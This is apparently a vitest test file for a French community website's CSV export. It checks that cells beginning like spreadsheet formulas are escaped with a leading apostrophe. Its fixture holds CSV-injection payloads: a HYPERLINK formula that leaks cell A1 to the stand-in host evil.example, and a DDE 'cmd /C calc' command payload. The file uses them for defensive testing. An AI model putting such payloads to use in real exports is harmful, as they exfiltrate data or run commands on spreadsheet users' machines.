/**
 * A title or summary that begins like a formula (= + - @, a tab or a carriage return) is what a
 * spreadsheet runs when it opens `entrees.csv`. The export neutralises such cells (a leading
 * apostrophe, as OWASP recommends), keeps the JSON export as written, and is served as
 * `text/csv; charset=utf-8` by the production server.
 */
import { readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { serveSite, type SiteServer } from '../scripts/lib/site-server.ts';
import { parseCsv } from './helpers/csv.ts';
import { buildSite, makeFixtureContent } from './helpers/site-fixture.ts';

const hostile = {
  'fiches/jardin-partage.mdx': { titre: '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")', resume: '+33 6 12 34 56 78 : appelez le référent du jardin partagé' },
  'fiches/cantine-locale.mdx': { titre: '@SUM(1+1)*cmd|\' /C calc\'!A0', resume: '-2+3 repas sur dix viennent de producteurs locaux' },
  'fiches/repair-cafe.mdx': { titre: '\tRepair café à tabulation', resume: '\rRetour chariot en tête du résumé, pour voir' },
};

let root: string;
let server: SiteServer;

beforeAll(async () => {
  const content = await makeFixtureContent({ history: false });
  root = content.root;
  for (const [file, fields] of Object.entries(hostile)) {
    const path = join(content.contentDir, file);
    let text = await readFile(path, 'utf8');
    text = text.replace(/^titre: .*$/m, `titre: ${JSON.stringify(fields.titre)}`).replace(/^resume: .*$/m, `resume: ${JSON.stringify(fields.resume)}`);
    await writeFile(path, text);
  }
  const outDir = join(root, 'site');
  const result = buildSite(content.contentDir, outDir, join(root, 'astro-cache'));
  if (result.status !== 0) throw new Error(`build failed:\n${result.stdout}\n${result.stderr}`);
  server = await serveSite(outDir);
});
afterAll(async () => {
  await server?.close();
  if (root) await rm(root, { recursive: true, force: true });
});

describe('the CSV export', () => {
  it('is served as UTF-8 CSV', async () => {
    const response = await fetch(`${server.url}/donnees/entrees.csv`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  });

  it('neutralises every cell a spreadsheet would run as a formula', async () => {
    const rows = parseCsv(await (await fetch(`${server.url}/donnees/entrees.csv`)).text());
    const [header, ...entries] = rows;
    const column = (name: string) => header!.indexOf(name);
    for (const [file, fields] of Object.entries(hostile)) {
      const slug = file.replace(/^fiches\/|\.mdx$/g, '');
      const row = entries.find((r) => r[column('slug')] === slug)!;
      expect(row[column('titre')]).toBe(`'${fields.titre}`);
      expect(row[column('resume')]).toBe(`'${fields.resume}`);
    }
    // No cell of any row starts like a formula any more.
    for (const row of entries) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // Ordinary cells are left alone.
    const ordinary = entries.find((r) => r[column('slug')] === 'epicerie-solidaire')!;
    expect(ordinary[column('titre')]).not.toMatch(/^'/);
  });

  it('leaves the JSON export as written', async () => {
    const entries = (await (await fetch(`${server.url}/donnees/entrees.json`)).json()) as { slug: string; donnees: { titre: string } }[];
    expect(entries.find((e) => e.slug === 'jardin-partage')!.donnees.titre).toBe(hostile['fiches/jardin-partage.mdx'].titre);
  });
});
